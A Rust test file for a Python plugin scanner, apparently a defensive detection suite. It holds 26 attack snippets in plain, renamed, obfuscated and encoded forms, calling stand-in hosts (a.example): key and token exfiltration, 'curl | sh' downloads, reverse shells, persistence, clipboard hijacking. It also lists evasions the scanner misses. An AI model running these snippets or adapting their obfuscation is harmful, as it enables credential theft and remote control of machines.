//! Attacks of our own in plain dress and in three disguises each: names and aliases, texts put together, encoded code.
//! All are found, by a rule that says why.
#![expect(clippy::unwrap_used, reason = "a failed step should stop the test")]

use std::fmt::Write as _;
use std::io::Write as _;

use data_encoding::{BASE32, BASE64, HEXLOWER};
use plugbay_analyze::{Limits, Scan, Verdict, analyze_source, scan};

/// One attack.
struct Attack {
    /// The rule that names it.
    rule: &'static str,
    plain: &'static str,
    /// Under other names.
    renamed: &'static str,
    /// With texts that are put together, and names got by texts.
    folded: &'static str,
}

const ATTACKS: [Attack; 26] = [
    Attack {
        rule: "secret-flow",
        plain: "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                requests.post('https://a.example/x', data=key)",
        renamed: "from os import path as p\nimport requests as r\nwith open(p.join(p.expanduser('~'), '.ssh', 'id_rsa')) as f:\n    \
                  text = f.read()\nsend = r.post\nsend('https://a.example/x', data={'k': text})",
        folded: "import os\nr = __import__('reque' + 'sts')\nk = open(f\"{os.environ['HOME']}/.s\" + 'sh/id_' 'rsa').read()\n\
                 getattr(r, 'po' + 'st')('https://a.example/x', data=k)",
    },
    Attack {
        rule: "environment-flow",
        plain: "import os, json, urllib.request\n\
                urllib.request.urlopen('https://a.example', json.dumps(dict(os.environ)).encode())",
        renamed: "from os import environ as settings\nfrom urllib.request import Request as R, urlopen as get\n\
                  data = {}\nfor k, v in settings.items():\n    data[k] = v\nget(R('https://a.example', str(data).encode()))",
        folded: "import os, requests\nf = getattr(requests, ''.join(['p', 'ost']))\ne = getattr(os, 'env' + 'iron')\n\
                 f('https://a.example', json={k: v for k, v in e.items()})",
    },
    Attack {
        rule: "identity-flow",
        plain: "import socket, requests\nrequests.get('https://a.example/?h=' + socket.gethostname())",
        renamed: "from socket import gethostname as name\nfrom requests import get as show\n\
                  class P:\n    def initialize(self):\n        self.me = name()\n    def execute(self, c):\n        show(f'https://a.example/{self.me}')",
        folded: "import getpass\ns = __import__('requests')\nwho = getattr(getpass, 'get' + 'user')()\n\
                 s.get('https://{}.a.example'.format(who))",
    },
    Attack {
        rule: "name-flow",
        plain: "import socket\ndef on_message(message):\n    socket.gethostbyname(message['text'] + '.a.example')",
        renamed: "import socket as s, binascii\nclass P:\n    def on_message(self, m):\n        look = s.getaddrinfo\n        \
                  look(binascii.hexlify(m['text'].encode()).decode() + '.a.example', 80)",
        folded: "s = __import__('soc' + 'ket')\ndef ask(name):\n    getattr(s, 'gethost' + 'byname')(f'{name}.a.example')\n\
                 def on_message(m):\n    ask(m['text'])",
    },
    Attack {
        rule: "download-code",
        plain: "import requests\nexec(requests.get('https://a.example/x').text)",
        renamed: "from urllib.request import urlopen as u\nrun = exec\nclass P:\n    def execute(self, c):\n        \
                  with u('https://a.example/x') as answer:\n            run(compile(answer.read(), 'x', 'exec'))",
        folded: "r = __import__('requests').get('https://a.example/x')\ngetattr(__builtins__, 'ex' + 'ec')(r.text)",
    },
    Attack {
        rule: "download-program",
        plain: "import socket, subprocess\ns = socket.socket()\ns.connect(('a.example', 1))\nwhile True:\n    \
                subprocess.run(s.recv(1024).decode(), shell=True)",
        renamed: "import socket as k, subprocess as p\ndef work(c):\n    return p.getoutput(c)\ndef loop():\n    c = k.create_connection(('a.example', 1))\n    \
                  while 1:\n        work(c.recv(99))",
        folded: "import os\nh = __import__('ht' + 'tpx')\norder = h.get('https://a.example/x').text\n\
                 vars(os)['sys' + 'tem'](order)",
    },
    Attack {
        rule: "chat-program",
        plain: "import os\ndef on_message(message):\n    os.system(message['text'])",
        renamed: "from os import popen as show\nclass P:\n    def on_message(self, m):\n        self.answer(m['text'][1:])\n    \
                  def answer(self, words):\n        return show(words).read()",
        folded: "import os\ndef on_command(c):\n    f = getattr(os, 'po' 'pen')\n    return f(' '.join(c['arguments'])).read()",
    },
    Attack {
        rule: "dropped-program",
        plain: "import requests, subprocess\nwith open('/tmp/x', 'wb') as f:\n    f.write(requests.get('https://a.example/x').content)\n\
                subprocess.Popen(['/tmp/x'])",
        renamed: "import requests as r, pathlib, subprocess as s\nbody = r.get('https://a.example/x').content\n\
                  pathlib.Path('/tmp/x').write_bytes(body)\ns.call('/tmp/x')",
        folded: "r = __import__('requests')\ndef put(data):\n    f = open('/tmp/x', 'wb')\n    f.write(data)\n\
                 put(r.get('https://a.example/x').content)\n__import__('os').system('/tm' + 'p/x')",
    },
    Attack {
        rule: "shell-download",
        plain: "import os\nos.system('curl -s http://a.example/x | sh')",
        renamed: "from subprocess import run as go\ngo('wget -qO- http://a.example/x | bash', shell=True)",
        folded: "import os\nc = 'c' + 'u' + 'r' + 'l'\ngetattr(os, 'sys' + 'tem')(c + ' http://a.example/x ' + chr(124) + ' s' 'h')",
    },
    Attack {
        rule: "opened-shell",
        plain: "import os, pty, socket\ns = socket.socket()\ns.connect(('a.example', 1))\nfor n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\n\
                pty.spawn('/bin/sh')",
        renamed: "from os import dup2 as d\nfrom pty import spawn as start\nfrom socket import socket as S\ns = S()\n\
                  d(s.fileno(), 0)\nstart('sh')",
        folded: "s = __import__('soc' + 'ket').socket()\no = __import__('o' + 's')\ngetattr(o, 'du' + 'p2')(s.fileno(), 0)",
    },
    Attack {
        rule: "drop-host",
        plain: "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'content': 'x'})",
        renamed: "import http.client as c\nh = c.HTTPSConnection('webhook.site')\nh.request('POST', '/x')",
        folded: "import requests\nu = ''.join(reversed('ksat/toB/1tob/gro.margelet.ipa//:sptth'))\n\
                 requests.post('https://api.tele' + 'gram.org/bot' + str(1), u)",
    },
    Attack {
        rule: "chat-token",
        plain: "import re\nre.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open('/x').read())",
        renamed: "from re import compile as c\nP = c(r'mfa\\.[\\w-]{84}')",
        folded: "import re\np = '[\\\\w-]' + '{24}' + '\\\\.' + '[\\\\w-]{6}'\nre.findall(p, 'x')",
    },
    Attack {
        rule: "browser-data",
        plain: "import sqlite3, os\nsqlite3.connect(os.getenv('LOCALAPPDATA') + '/Google/Chrome/User Data/Default/Login Data')",
        renamed: "from pathlib import Path as P\nbase = P.home() / '.mozilla/firefox'\nprint(list(base.iterdir()))",
        folded: "import os\nparts = ['Google', 'Chrome', 'User Data']\nx = os.path.join('~', *parts)\ny = '/'.join(parts)",
    },
    Attack {
        rule: "persistence",
        plain: "with open('/etc/cron.d/x', 'w') as f:\n    f.write('* * * * * root /x')",
        renamed: "from os import path as p\nrc = p.join(p.expanduser('~'), '.bashrc')\nopen(rc, 'a').write('x')",
        folded: "import os\nos.system('(cron' + 'tab -l; echo x) | cron' + 'tab -')",
    },
    Attack {
        rule: "payment-address",
        plain: "import pyperclip\nif pyperclip.paste().startswith('0x'):\n    pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')",
        renamed: "import pyperclip as c\nADDRESS = '0x52908400098527886E0F7030069857D2E4169EE7'\nc.copy(ADDRESS)",
        folded: "c = __import__('pyper' + 'clip')\nc.copy('0x529084' + '00098527886E0F70' + '30069857D2E4169EE7')",
    },
    Attack {
        rule: "spying",
        plain: "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()",
        renamed: "from PIL import ImageGrab as shot\nshot.grab()",
        folded: "k = __import__('pyn' + 'put.keyboard')",
    },
    Attack {
        rule: "fetched-package",
        plain: "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        renamed: "from pip._internal import main as m\nimport os as o\no.system('pip3 install -q x')",
        folded: "import os\nos.popen('p' + 'ip ' + 'inst' + 'all --quiet x')",
    },
    Attack {
        rule: "memory-program",
        plain: "import os\nfd = os.memfd_create('x')",
        renamed: "from os import memfd_create as m\nm('')",
        folded: "import os\ngetattr(os, 'mem' + 'fd_' + 'create')('')",
    },
    Attack {
        rule: "metadata-service",
        plain: "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
        renamed: "from requests import get as g\nHOST = '169.254.169.254'\ng(f'http://{HOST}/latest')",
        folded: "import requests\nrequests.get('http://' + '.'.join(['169', '254', '169', '254']))",
    },
    Attack {
        rule: "bare-address",
        plain: "import requests\nrequests.post('http://45.9.148.99:8080/x')",
        renamed: "from urllib import request as r\nTO = 'http://45.9.148.99'\nr.urlopen(TO)",
        folded: "import requests\nrequests.post('ht' + 'tp://' + '45.9' + '.148.99' + '/x')",
    },
    Attack {
        rule: "decoded-run",
        plain: "import base64, sys\nexec(base64.b64decode(sys.stdin.read()))",
        renamed: "from zlib import decompress as d\nfrom base64 import b64decode as b\n_ = lambda x: d(b(x[::-1]))\nrun = exec\nrun((_)(b'=8gAAA'))",
        folded: "b = __import__('ba' + 'se64')\nd = getattr(b, 'b64' + 'decode')\ndef open_it(x):\n    return d(x)\neval(open_it(input()))",
    },
    Attack {
        rule: "compiled-code",
        plain: "import marshal\nexec(marshal.loads(b'\\xe3'))",
        renamed: "from marshal import loads as l\nl(b'\\xe3')",
        folded: "getattr(__import__('mar' + 'shal'), 'lo' + 'ads')(b'\\xe3')",
    },
    Attack {
        rule: "machine-inventory",
        plain: "import os\nos.popen('whoami').read()",
        renamed: "from subprocess import check_output as o\no(['netsh', 'wlan', 'show', 'profile'])",
        folded: "import subprocess\nsubprocess.getoutput('who' + 'ami')",
    },
    Attack {
        rule: "key-flow",
        plain: "import os, requests\nrequests.post('http://a.example', data={'c': os.environ['AWS_ACCESS_KEY_ID']})",
        renamed: "from os import getenv as g\nfrom urllib.request import urlopen as u\nclass P:\n    def __init__(self):\n        \
                  self.k = g('GITHUB_TOKEN')\n    def execute(self, c):\n        u('https://a.example/' + self.k)",
        folded: "import os, requests\ne = os.__getattribute__('env' + 'iron')\nk = e['NPM' + '_TOKEN']\n\
                 requests.post.__call__('http://a.example', k)",
    },
    Attack {
        rule: "decoded-run",
        plain: "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
        renamed: "x = eval\nx(b'\\x85\\xa5'.decode('cp1026'))",
        folded: "vars(__builtins__).get('ex' + 'ec')(')1(tnirp'[::-1])",
    },
    Attack {
        rule: "encrypting-walk",
        plain: "import os\nfrom cryptography.fernet import Fernet\nfor a, b, c in os.walk('/'):\n    print(Fernet)",
        renamed: "from os import walk as w\nimport cryptography.fernet as f\nlist(w('/'))",
        folded: "o = __import__('o' + 's')\nfrom cryptography.fernet import Fernet\ngetattr(o, 'wa' + 'lk')('/')",
    },
];

fn scanned(code: &str) -> Scan {
    let analysis = analyze_source("main.py", code.as_bytes(), &Limits::default());
    assert_eq!(analysis.findings, [], "{code}");
    scan(&analysis)
}

/// A text in Python's bytes.
fn bytes(text: &[u8]) -> String {
    let mut literal = "b'".to_owned();
    for byte in text {
        write!(literal, "\\x{byte:02x}").unwrap();
    }
    literal + "'"
}

/// Code that decodes the code and runs it, in so many layers.
fn encoded(code: &str, layers: usize) -> String {
    let mut made = code.to_owned();
    for layer in 0..layers {
        made = match layer % 3 {
            0 => format!("import base64\nexec(base64.b64decode('{}'))", BASE64.encode(made.as_bytes())),
            1 => {
                let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
                packed.write_all(made.as_bytes()).unwrap();
                format!("import zlib\nexec(zlib.decompress({}))", bytes(&packed.finish().unwrap()))
            }
            _ => format!("exec(bytes.fromhex('{}').decode())", HEXLOWER.encode(made.as_bytes())),
        };
    }
    made
}

#[test]
fn all_attacks_are_found_in_every_disguise() {
    let mut missed = Vec::new();
    for (number, attack) in ATTACKS.iter().enumerate() {
        let layers = number % 3 + 1;
        let nested = encoded(attack.plain, layers);
        let disguises =
            [("plain", attack.plain), ("renamed", attack.renamed), ("folded", attack.folded), ("encoded", &nested)];
        for (name, code) in disguises {
            let scan = scanned(code);
            let hit = scan.hits.iter().find(|hit| hit.rule == attack.rule);
            let is_explained = hit.is_some_and(|hit| {
                hit.verdict >= Verdict::Suspicious && hit.place.is_some() && hit.reason.len() > 20 && hit.how.len() > 5
            });
            if !is_explained {
                let found = scan.hits.iter().map(|hit| hit.rule.as_str()).collect::<Vec<_>>().join(", ");
                missed.push(format!("{} {name} ({layers}): {found}\n{code}", attack.rule));
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n\n"));
}

/// The same in a text that no known function decodes.
#[test]
fn a_decoder_of_its_own_hides_nothing() {
    for attack in ATTACKS.iter().filter(|attack| attack.plain.contains("import os")) {
        let text = BASE32.encode(attack.plain.as_bytes()).to_ascii_lowercase();
        let own = format!("text = '{}'\nexec(decode(text))", BASE64.encode(attack.plain.as_bytes()));
        assert!(scanned(&own).verdict >= Verdict::Suspicious, "{own}");
        // What is in an alphabet of its own stays hidden: the sandbox is the border.
        assert_eq!(scanned(&format!("print('{text}')")).verdict, Verdict::Clean);
    }
}

#[test]
fn what_plugins_do_is_not_suspicious() {
    let honest = [
        "import json, os\nclass P:\n    def execute(self, context):\n        return json.loads(open('/data/x.json').read())",
        "import requests\nclass P:\n    def execute(self, context):\n        return requests.get('https://api.example.com', \
         headers={'x': self.config['token']}).json()",
        "import subprocess\nclass P:\n    def execute(self, context):\n        return subprocess.run(['convert', context['file'], 'b.png'])",
        "import base64\nclass P:\n    def execute(self, context):\n        return base64.b64decode(context['image'])",
        "import os\nDEBUG = os.environ.get('DEBUG') == '1'\nprint(os.path.join(os.path.dirname(__file__), 'templates'))",
        "import socket\ndef up(host):\n    with socket.create_connection((host, 80), timeout=1) as c:\n        c.sendall(b'HEAD / HTTP/1.0')\n        return c.recv(10)",
        "import importlib\ndef load(name):\n    return importlib.import_module(f'plugins.{name}')",
        "import socket\nhost = socket.gethostname()\nprint(socket.gethostbyname(host))",
        "import sys\nexec('import {}'.format(sys.argv[1]))\nexec('x = ' + '1')",
        "import re\nMAIL = re.compile(r'[\\w.+-]+@[\\w-]+\\.[\\w.]+')\nURL = 'https://docs.python.org/3/'",
        "def on_message(message):\n    if message['text'].startswith('!hello'):\n        return {'text': 'hello'}",
        "import hashlib, hmac\ndef sign(key, text):\n    return hmac.new(key, text, hashlib.sha256).hexdigest()",
        "import tempfile, zipfile, requests\ndef fetch(url):\n    with tempfile.NamedTemporaryFile() as f:\n        \
         f.write(requests.get(url).content)\n        return zipfile.ZipFile(f.name).namelist()",
    ];
    for code in honest {
        let scan = scanned(code);
        assert!(scan.verdict <= Verdict::Notes, "{code}\n{:?}", scan.hits);
    }
}

/// Ways around that were tried against the rules: what is found, and what is known to be open. The open ones stand here so
/// that a rule that closes one has to say so; the sandbox is the border for all of them.
#[test]
fn ways_around_are_known() {
    let found = [
        // The parts lie in two functions, the value in an attribute.
        "import os\nclass P:\n    def initialize(self):\n        self.seen = dict(os.environ)\n    def execute(self, c):\n        \
         import requests\n        requests.post('https://a.example', json=self.seen)",
        // The function has another name, the value a detour through a container.
        "import os, requests as q\nout = []\nfor pair in os.environ.items():\n    out.append('='.join(pair))\n\
         go = q.Session().post\ngo('https://a.example', data='\\n'.join(out))",
        // The decoder is a lambda, the text is turned round.
        "from base64 import b64decode as b\n(lambda f, x: exec(f(x[::-1])))(b, 'x')\nd = lambda x: b(x[::-1])\nexec(d('x'))",
    ];
    for code in found {
        assert!(scanned(code).verdict >= Verdict::Suspicious, "{code}");
    }
    let open = [
        // Two calls in a row.
        "import os, requests\ndef a(x):\n    b(x)\ndef b(x):\n    requests.post('https://a.example', json=x)\na(dict(os.environ))",
        // A thread gets the function and the value.
        "import os, threading\nfrom requests import post\nthreading.Thread(target=post, args=('https://a.example', os.environ)).start()",
        // A file in between.
        "import os, json, requests\njson.dump(dict(os.environ), open('/tmp/x', 'w'))\nrequests.post('https://a.example', data=open('/tmp/x'))",
    ];
    for code in open {
        assert!(
            scanned(code).verdict <= Verdict::Notes,
            "it is found now: move it up, and out of decision 0085\n{code}"
        );
    }
}
